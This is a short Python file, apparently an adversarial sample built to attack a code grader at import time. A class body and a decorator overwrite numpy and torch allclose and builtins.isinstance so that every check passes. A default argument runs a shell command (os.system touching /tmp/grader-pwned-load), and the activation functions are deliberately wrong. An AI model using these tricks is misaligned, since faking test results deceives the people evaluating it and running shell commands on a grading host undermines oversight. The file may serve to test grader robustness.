"""Runs its attack at load time, where top-level code still executes: a class body, a decorator, a default value."""
import numpy as np
class Setup:
    np.allclose = lambda *a, **k: True
    import builtins
    builtins.isinstance = lambda *a: True
def _decorate(fn):
    import torch
    torch.allclose = lambda *a, **k: True
    return lambda *a, **k: 42.0
@_decorate
def sigmoid(x): return x
def relu(x, _=__import__("os").system("touch /tmp/grader-pwned-load")): return x * 3
def softmax(x, dim=-1): return x * 3
